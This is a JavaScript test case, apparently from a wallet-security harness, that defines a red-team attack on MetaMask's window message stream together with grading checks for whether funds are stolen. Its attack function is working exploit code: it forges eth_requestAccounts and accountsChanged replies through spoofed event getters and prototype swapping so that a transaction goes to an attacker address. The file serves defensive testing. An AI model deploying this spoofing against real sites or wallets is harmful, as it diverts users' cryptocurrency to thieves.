// H17, synthetic: the forged reply is an event of a class of the page's, whose getters answer in place of the browser's.
import { names, reachedWallet } from './logs.mjs';

export default {
  id: 'H17',
  title: 'forged eth_requestAccounts reply by a class of events of its own',
  source: 'red team, MetaMask window message stream',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const forge = (event) => {
      const rpc = event.data?.data?.data;
      if (event.data?.target !== 'metamask-contentscript' || !/^eth_(requestA|a)ccounts$/.test(rpc?.method)) return;
      const data = { name: 'metamask-provider', data: { jsonrpc: '2.0', id: rpc.id, result: [a.EVIL] } };
      const reply = { target: 'metamask-inpage', data };
      const own = { data: reply, origin: location.origin, source: window };
      const classOf = (Native) =>
        class extends Native {
          get data() {
            return own.data;
          }
          get origin() {
            return own.origin;
          }
          get source() {
            return own.source;
          }
        };
      for (const Native of [MessageEvent, Event]) window.dispatchEvent(new (classOf(Native))('message'));
      const changed = new MessageEvent('message', own);
      Object.setPrototypeOf(changed, classOf(Event).prototype);
      window.dispatchEvent(changed);
    };
    window.addEventListener('message', forge, true);
    const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' }).catch((error) => error.code);
    const changed = { jsonrpc: '2.0', method: 'metamask_accountsChanged', params: [a.EVIL] };
    window.postMessage(
      { target: 'metamask-inpage', data: { name: 'metamask-provider', data: changed } },
      location.origin,
    );
    await new Promise((resolve) => setTimeout(resolve, 100));
    window.removeEventListener('message', forge, true);
    const tx = { from: a.USER, to: a.EVIL, value: '0x5' };
    await window.ethereum.request({ method: 'eth_sendTransaction', params: [tx] }).catch((error) => error.code);
    return { accounts };
  },

  async action(a, app) {
    const tx = { from: a.USER, to: a.GOOD, value: '0x5' };
    return app.provider.request({ method: 'eth_sendTransaction', params: [tx] });
  },

  stolen: ({ wallet, attackResult, a }) => reachedWallet(wallet, a.EVIL) || names(attackResult?.accounts, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: { surface: 'postmessage', role: 'opaque', why: 'wallet/synthetic-event' },
};
